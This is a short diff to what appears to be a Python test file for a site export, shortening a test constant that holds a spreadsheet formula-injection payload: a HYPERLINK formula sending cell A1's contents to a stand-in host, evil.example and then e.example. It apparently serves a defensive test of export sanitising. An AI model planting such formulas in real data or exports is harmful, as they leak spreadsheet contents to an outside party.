@@ -19,7 +19,7 @@ from core.models import Site
 from core.services.photos import clean_photo
 from tests.support.web import csrf_token_from, staff_login
 
-FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点击")'
+FORMULA = '=HYPERLINK("https://e.example/?"&A1,"点")'  # fits sites.name, varchar(40)
 
 
 def _cells(data: bytes):
